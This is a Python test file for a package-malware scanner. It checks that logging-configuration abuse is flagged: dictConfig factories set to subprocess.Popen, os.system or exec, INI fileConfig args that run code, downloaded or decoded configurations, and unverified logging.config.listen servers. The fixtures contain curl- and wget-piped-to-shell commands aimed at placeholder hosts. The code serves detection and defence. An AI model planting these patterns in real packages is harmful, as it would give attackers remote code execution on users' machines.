"""Callables a configuration names, called by its loader (caplet._scan._config_factories).

The attack is tune sample b16-cn-logging-dictconfig-factory: ``logging.config.dictConfig``
given a handler whose ``"()"`` factory is ``subprocess.Popen``, its name glued from
pieces, with a ``curl | sh`` command and ``shell=True`` as the dict's other keys (clean on
main, recall17). The near misses: the factories real logging configurations name (a
formatter class of the package's own, the standard library's handlers, a callable given
as a reference), and a dict with a ``"()"`` key that no loader is given.
"""

from __future__ import annotations

import textwrap
from pathlib import Path

import pytest

from caplet._findings import Severity
from caplet._scan._model import ScanMode
from caplet._scan._scanner import scan_source
from tests._scan.prefilterkit import found_in_a_package

SAMPLE = (
    Path(__file__).resolve().parents[2]
    / "benchmarks/malware/tune/b16-cn-logging-dictconfig-factory/logcfg_presets/__init__.py"
)

FACTORIES = [
    (SAMPLE.read_text(encoding="utf-8"), "CPL-THR-015"),
    # a handler's class, the config nested and bound to names
    (
        """
        import logging.config
        H = {"class": "os.system", "command": "wget -qO- http://198.51.100.4/x | bash"}
        CFG = {"version": 1, "handlers": {"h": H}}
        logging.config.dictConfig(CFG)
        """,
        "CPL-THR-015",
    ),
    # a formatter's factory that is exec given a decoded stage
    (
        """
        from logging.config import dictConfig
        import base64
        dictConfig({"version": 1, "formatters": {"f": {"()": "builtins.exec",
            "source": base64.b64decode("cHJpbnQoMSk=")}}})
        """,
        "CPL-THR-003",
    ),
    # the callable given as a reference, not a string: its command is still checked
    (
        """
        import logging.config, subprocess
        logging.config.dictConfig({"version": 1, "handlers": {"h": {
            "()": subprocess.Popen, "args": "curl -s https://i.example/s | sh", "shell": True}}})
        """,
        "CPL-THR-015",
    ),
]


def danger(source: str, mode: ScanMode = ScanMode.PACKAGE) -> set[str]:
    findings = scan_source(textwrap.dedent(source), "pkg/__init__.py", mode=mode)
    return {f.rule_id for f in findings if f.severity is Severity.DANGER}


@pytest.mark.parametrize(("source", "rule"), FACTORIES)
def test_a_factory_a_configuration_names_is_the_call_its_loader_makes(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, source: str, rule: str
) -> None:
    assert rule in danger(source)
    assert rule in danger(source, ScanMode.PLUGIN)
    found_in_a_package(tmp_path, monkeypatch, textwrap.dedent(source), rule)


def test_the_finding_names_the_factory_and_the_loader() -> None:
    findings = scan_source(SAMPLE.read_text(encoding="utf-8"), "p/__init__.py")
    lookup = next(f for f in findings if f.rule_id == "CPL-THR-003")
    assert "subprocess.Popen named by a factory key" in lookup.message
    assert "logging.config.dictConfig" in lookup.message


@pytest.mark.parametrize(
    "source",
    [
        # Django's and structlog's kind of configuration: the package's own formatter
        # factory, the standard library's handlers, a filter given as a reference
        """
        import logging.config, sys

        def only_errors(record):
            return record.levelno >= 40

        LOGGING = {
            "version": 1,
            "formatters": {
                "json": {"()": "myapp.logs.JsonFormatter", "fmt": "%(message)s"},
                "plain": {"()": "logging.Formatter", "fmt": "%(levelname)s %(message)s"},
            },
            "filters": {"errors": {"()": only_errors}},
            "handlers": {
                "out": {"class": "logging.StreamHandler", "stream": "ext://sys.stdout"},
                "file": {"class": "logging.handlers.RotatingFileHandler",
                         "filename": "app.log", "maxBytes": 1 << 20},
                "syslog": {"class": "logging.handlers.SysLogHandler", "address": "/dev/log"},
            },
            "root": {"handlers": ["out", "file"], "level": "INFO"},
        }
        logging.config.dictConfig(LOGGING)
        """,
        # a "()" key in a table no loader is given (a serializer's type tags)
        """
        import subprocess
        TAGS = {"()": "subprocess.Popen", "[]": "list"}
        def kind(name):
            return TAGS.get(name)
        """,
    ],
)
def test_real_logging_configurations_stay_clean(source: str) -> None:
    assert danger(source) == set()


# -- recall18: the whole configuration downloaded or decoded, or a file fileConfig reads ----

_INI = (
    "[loggers]\nkeys=root\n[handlers]\nkeys=x\n[formatters]\nkeys=\n"
    "[logger_root]\nhandlers=x\n[handler_x]\nclass=StreamHandler\n"
    "args=(__import__('os').system('curl -s https://stage.example/i | sh'),)\n"
)

CONFIGURATIONS = [
    (
        """
        import logging.config, requests
        logging.config.dictConfig(requests.get("https://cfg.example/log.json").json())
        """,
        "CPL-THR-002",
    ),
    (
        """
        import json, logging.config, urllib.request
        cfg = json.loads(urllib.request.urlopen("https://cfg.example/log.json").read())
        logging.config.dictConfig(cfg)
        """,
        "CPL-THR-002",
    ),
    (
        """
        import base64, json, logging.config
        BLOB = "eyJ2ZXJzaW9uIjogMX0="
        logging.config.dictConfig(json.loads(base64.b64decode(BLOB)))
        """,
        "CPL-THR-001",
    ),
    # an INI fileConfig evaluates, written from a decoded string
    (
        f"""
        import base64, logging.config
        INI = {__import__("base64").b64encode(_INI.encode()).decode()!r}
        with open("/tmp/l.ini", "w") as fh:
            fh.write(base64.b64decode(INI).decode())
        logging.config.fileConfig("/tmp/l.ini")
        """,
        "CPL-THR-001",
    ),
    # ... written as it is: the Python in its args is what runs
    (
        f"""
        import logging.config, tempfile, os
        p = os.path.join(tempfile.gettempdir(), "l.ini")
        open(p, "w").write({_INI!r})
        logging.config.fileConfig(p)
        """,
        "CPL-THR-015",
    ),
    # ... downloaded
    (
        """
        import logging.config, requests
        open("l.ini", "wb").write(requests.get("https://cfg.example/l.ini").content)
        logging.config.fileConfig("l.ini")
        """,
        "CPL-THR-002",
    ),
]


@pytest.mark.parametrize(("source", "rule_id"), CONFIGURATIONS)
def test_a_logging_configuration_downloaded_or_decoded_runs_what_it_names(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, source: str, rule_id: str
) -> None:
    assert rule_id in danger(source)
    found_in_a_package(tmp_path, monkeypatch, textwrap.dedent(source), rule_id)


@pytest.mark.parametrize(
    "source",
    [
        # the package's own configuration file, beside a client that downloads
        """
        import json, logging.config, requests
        with open("logging.json") as fh:
            logging.config.dictConfig(json.load(fh))
        def fetch(u):
            return requests.get(u).json()
        """,
        # a YAML file read by path, and a default INI written by the package and read
        """
        import logging.config, sys, yaml
        logging.config.dictConfig(yaml.safe_load(open(sys.argv[1])))
        DEFAULT = "[handler_x]\\nclass=StreamHandler\\nargs=(sys.stderr,)\\n"
        with open("logging.ini", "w") as fh:
            fh.write(DEFAULT)
        logging.config.fileConfig("logging.ini")
        """,
        # an environment variable's level, and a dict of the file's own
        """
        import base64, logging.config, os
        LEVEL = base64.b64decode(os.environ.get("LOG_LEVEL_B64", "SU5GTw==")).decode()
        logging.config.dictConfig({"version": 1, "root": {"level": LEVEL}})
        """,
    ],
)
def test_a_logging_configuration_of_the_packages_own_stays_clean(source: str) -> None:
    assert not danger(source)


#: mend19 (recall18's noticed row): ``logging.config.listen`` starts a socket server that
#: takes a logging configuration from any peer and applies it: ``fileConfig``'s INI
#: evaluates its ``class`` and ``args`` as Python and a dict's ``"()"`` factories are
#: called, so without ``verify`` it is a listener that runs what a peer sends.
LISTENERS = [
    """
    import logging.config
    t = logging.config.listen(9030)
    t.daemon = True
    t.start()
    """,
    """
    import os
    from logging.config import listen as serve_settings
    serve_settings(port=int(os.environ.get("LOGCTL_PORT", "9999")), verify=None).start()
    """,
    """
    import importlib
    cfg = importlib.import_module("logging.config")
    cfg.listen().start()
    """,
]


@pytest.mark.parametrize("source", LISTENERS)
def test_a_logging_configuration_listener_runs_what_a_peer_sends(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, source: str
) -> None:
    for mode in (ScanMode.PACKAGE, ScanMode.PLUGIN):
        assert "CPL-THR-002" in danger(source, mode), mode
    found_in_a_package(tmp_path, monkeypatch, textwrap.dedent(source), "CPL-THR-002")


@pytest.mark.parametrize(
    "source",
    [
        # a listener whose configurations must pass a signature check first
        """
        import hmac, logging.config
        def verify(data):
            return data if hmac.compare_digest(data[:32], b"k" * 32) else None
        logging.config.listen(9030, verify=verify).start()
        logging.config.listen(9031, verify).start()
        """,
        # a server socket's listen beside logging configured from the package's own dict
        """
        import logging.config, socket
        logging.config.dictConfig({"version": 1})
        s = socket.socket()
        s.bind(("127.0.0.1", 0))
        s.listen(5)
        logging.config.stopListening()
        """,
    ],
)
def test_a_verified_listener_or_another_listen_stays_clean(source: str) -> None:
    assert "CPL-THR-002" not in danger(source)
    assert "CPL-THR-002" not in danger(source, ScanMode.PLUGIN)
